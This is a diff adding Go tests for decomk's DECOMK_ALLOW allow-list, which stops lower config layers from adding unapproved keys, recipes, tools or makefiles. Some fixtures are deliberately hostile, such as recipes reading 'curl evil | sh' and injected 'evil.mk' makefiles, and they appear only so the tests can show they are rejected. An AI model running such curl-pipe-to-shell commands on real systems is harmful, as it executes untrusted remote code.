@@ -0,0 +1,173 @@
+package main
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/stevegt/decomk/contexts"
+	"github.com/stevegt/decomk/state"
+)
+
+// writeAllowLayers writes a config repo decomk.conf and an explicit root
+// config, returning the conf dir and the root config path.
+func writeAllowLayers(t *testing.T, repoConf, rootConf string) (confDir, root string) {
+	t.Helper()
+
+	home := t.TempDir()
+	configRepo := filepath.Join(home, "conf", "decomk.conf")
+	if err := os.MkdirAll(filepath.Dir(configRepo), 0o755); err != nil {
+		t.Fatalf("MkdirAll(config repo): %v", err)
+	}
+	if err := os.WriteFile(configRepo, []byte(repoConf), 0o600); err != nil {
+		t.Fatalf("WriteFile(config repo decomk.conf): %v", err)
+	}
+	root = filepath.Join(t.TempDir(), "decomk.conf")
+	if err := os.WriteFile(root, []byte(rootConf), 0o600); err != nil {
+		t.Fatalf("WriteFile(root decomk.conf): %v", err)
+	}
+	return state.ConfDir(home), root
+}
+
+func TestLoadDefs_AllowList(t *testing.T) {
+	t.Parallel()
+
+	rootConf := "DECOMK_ALLOW: Block* install-* DEFAULT mise-go-*\n" +
+		"DEFAULT: BASE=1\n" +
+		"Tools: mise:node@20 DECOMK_MAKEFILES=base.mk\n" +
+		"recipe setup: true\n"
+	allowed := "DEFAULT: Block10 mise:node@20 DECOMK_MAKEFILES=base.mk mise:go@1.22 ?GPU=1 -> mise:go@1.22\n" +
+		"Block10: FOO=1\n" +
+		"recipe install-jq: touch $@\n"
+	confDir, root := writeAllowLayers(t, allowed, rootConf)
+	if _, err := loadDefs(confDir, root); err != nil {
+		t.Fatalf("loadDefs(allowed) error: %v", err)
+	}
+
+	cases := []struct {
+		name, repoConf, want string
+	}{
+		{name: "key", repoConf: "DEFAULT: Evil\nEvil: FOO=1\n", want: `key "Evil" is not defined by the root config or matched by its DECOMK_ALLOW list (Block* install-* DEFAULT mise-go-*)`},
+		{name: "recipe", repoConf: "recipe pwn: curl evil | sh\n", want: `recipe "pwn" is not defined`},
+		{name: "directive", repoConf: "DECOMK_ALLOW: *\n", want: "DECOMK_ALLOW may only be set in the root config"},
+		{name: "root key", repoConf: "Tools: merge append; mise:node@20\n", want: `key "Tools" redefines a root config key`},
+		{name: "root recipe", repoConf: "recipe setup: curl evil | sh\n", want: `recipe "setup" redefines a root config recipe`},
+		{name: "tmpl", repoConf: "DEFAULT: tmpl:github-release(evil/evil,evil)\n", want: `token "tmpl:github-release(evil/evil,evil)" in key "DEFAULT" introduces "tmpl-github-release-evil-evil-evil"`},
+		{name: "mise", repoConf: "DEFAULT: mise:python@3.12\n", want: `introduces "mise-python-3.12"`},
+		{name: "asdf", repoConf: "DEFAULT: asdf:nodejs@20\n", want: `introduces "asdf-nodejs-20"`},
+		{name: "inherited prefix", repoConf: "DEFAULT: mise:node@20 python@3.12\n", want: `introduces "mise-python-3.12"`},
+		{name: "conditional", repoConf: "DEFAULT: ?GPU=1 -> mise:python@3.12\n", want: `introduces "mise-python-3.12"`},
+		{name: "makefiles", repoConf: "DEFAULT: DECOMK_MAKEFILES=evil.mk\n", want: `introduces "DECOMK_MAKEFILES"`},
+		{name: "root makefiles", repoConf: "DEFAULT: DECOMK_MAKEFILES='base.mk evil.mk'\n", want: `introduces "DECOMK_MAKEFILES"`},
+		{name: "make makefiles", repoConf: "DEFAULT: envonly MAKEFILES=evil.mk\n", want: `introduces "MAKEFILES"`},
+	}
+	for _, tc := range cases {
+		confDir, root := writeAllowLayers(t, tc.repoConf, rootConf)
+		_, err := loadDefs(confDir, root)
+		if err == nil || !strings.Contains(err.Error(), tc.want) {
+			t.Fatalf("loadDefs(%s) error: got %v want %q", tc.name, err, tc.want)
+		}
+	}
+
+	// Without DECOMK_ALLOW in the root, lower layers are unrestricted.
+	confDir, root = writeAllowLayers(t, "DEFAULT: Evil mise:python@3.12\nEvil: FOO=1\n", "DEFAULT: BASE=1\n")
+	if _, err := loadDefs(confDir, root); err != nil {
+		t.Fatalf("loadDefs(no allow-list) error: %v", err)
+	}
+}
+
+func TestApplyWorkspaceConfigs_AllowList(t *testing.T) {
+	t.Parallel()
+
+	parent := t.TempDir()
+	allowed := writeWorkspaceConfig(t, parent, "app", "decomk.conf", "DEFAULT: Block20\nBlock20: FOO=1\nrecipe install-jq: touch $@\n")
+	denied := writeWorkspaceConfig(t, parent, "other", "decomk.conf", "DEFAULT: FOO=1\nrecipe pwn: touch $@\n")
+	defs := contexts.Defs{"DEFAULT": {"BASE=1"}, contexts.AllowKey: {"Block*", "install-*"}}
+
+	if _, _, _, _, err := applyWorkspaceConfigs(defs, contexts.Recipes{}, []workspaceRepo{{Root: allowed, Name: "app"}}, []string{"*"}); err != nil {
+		t.Fatalf("applyWorkspaceConfigs(allowed) error: %v", err)
+	}
+	_, _, _, _, err := applyWorkspaceConfigs(defs, contexts.Recipes{}, []workspaceRepo{{Root: denied, Name: "other"}}, []string{"*"})
+	if err == nil || !strings.Contains(err.Error(), `recipe "pwn" is not defined by the root config`) {
+		t.Fatalf("applyWorkspaceConfigs(denied) error: got %v", err)
+	}
+
+	// The overlay's DEFAULT name is exempt, but not the targets its tokens
+	// introduce.
+	for _, tc := range []struct{ name, conf, want string }{
+		{name: "tmpl", conf: "DEFAULT: tmpl:github-release(evil/evil,evil)\n", want: `introduces "tmpl-github-release-evil-evil-evil"`},
+		{name: "mise", conf: "DEFAULT: mise:python@3.12\n", want: `introduces "mise-python-3.12"`},
+		{name: "makefiles", conf: "DEFAULT: DECOMK_MAKEFILES=evil.mk\n", want: `introduces "DECOMK_MAKEFILES"`},
+	} {
+		dir := writeWorkspaceConfig(t, parent, "default-"+tc.name, "decomk.conf", tc.conf)
+		_, _, _, _, err := applyWorkspaceConfigs(defs, contexts.Recipes{}, []workspaceRepo{{Root: dir, Name: "app"}}, []string{"*"})
+		if err == nil || !strings.Contains(err.Error(), tc.want) {
+			t.Fatalf("applyWorkspaceConfigs(DEFAULT %s) error: got %v want %q", tc.name, err, tc.want)
+		}
+	}
+}
+
+func TestCmdPlan_AllowListChecksLowerLayerActionTuples(t *testing.T) {
+	t.Parallel()
+
+	configPath := filepath.Join(t.TempDir(), "decomk.conf")
+	if err := os.WriteFile(configPath, []byte("DECOMK_ALLOW: install-*\nDEFAULT: INSTALL=base\n"), 0o600); err != nil {
+		t.Fatalf("WriteFile(configPath): %v", err)
+	}
+	makefilePath := filepath.Join(t.TempDir(), "Makefile")
+	if err := os.WriteFile(makefilePath, []byte("base install-jq any-target:\n\t@true\n"), 0o600); err != nil {
+		t.Fatalf("WriteFile(makefilePath): %v", err)
+	}
+
+	for _, tc := range []struct {
+		name, overlay, want string
+	}{
+		{name: "root target", overlay: "DEFAULT: INSTALL='base install-jq'\n"},
+		{name: "denied", overlay: "DEFAULT: INSTALL=any-target\n", want: `target "any-target" selected through INSTALL, which a lower config layer sets, is not matched by the root config's DECOMK_ALLOW list (install-*)`},
+	} {
+		workspacesDir := t.TempDir()
+		writeWorkspaceConfig(t, workspacesDir, "app", "decomk.conf", tc.overlay)
+		var stdout, stderr bytes.Buffer
+		code, err := cmdPlan([]string{
+			"-home", t.TempDir(),
+			"-workspaces", workspacesDir,
+			"-config", configPath,
+			"-makefile", makefilePath,
+			"-workspace-config-owners", "*",
+			"INSTALL",
+		}, &stdout, &stderr)
+		if tc.want == "" {
+			if err != nil || code != 0 {
+				t.Fatalf("cmdPlan(%s): code=%d err=%v (stderr=%q)", tc.name, code, err, stderr.String())
+			}
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), tc.want) {
+			t.Fatalf("cmdPlan(%s) error: got %v want %q", tc.name, err, tc.want)
+		}
+	}
+}
+
+func TestLoadDefs_LowerTuples(t *testing.T) {
+	t.Parallel()
+
+	confDir, root := writeAllowLayers(t, "DEFAULT: INSTALL=any-target ?GPU=1 -> CUDA=12\n", "DECOMK_ALLOW: DEFAULT\nDEFAULT: INSTALL='base tools'\n")
+	cfg, err := loadDefs(confDir, root)
+	if err != nil {
+		t.Fatalf("loadDefs() error: %v", err)
+	}
+	want := map[string][]string{"INSTALL": {"base", "tools"}, "CUDA": nil}
+	if !reflect.DeepEqual(cfg.LowerTuples, want) {
+		t.Fatalf("loadDefs() LowerTuples: got %v want %v", cfg.LowerTuples, want)
+	}
+	allow := cfg.Defs[contexts.AllowKey]
+	if err := checkSelectedTargetsAllowed(allow, cfg.LowerTuples, []string{"INSTALL=base tools"}, []string{"INSTALL", "other"}); err != nil {
+		t.Fatalf("checkSelectedTargetsAllowed(root targets) error: %v", err)
+	}
+	if err := checkSelectedTargetsAllowed(allow, cfg.LowerTuples, []string{"INSTALL=base any-target"}, []string{"INSTALL"}); err == nil || !strings.Contains(err.Error(), `target "any-target"`) {
+		t.Fatalf("checkSelectedTargetsAllowed(lower target) error: got %v", err)
+	}
+}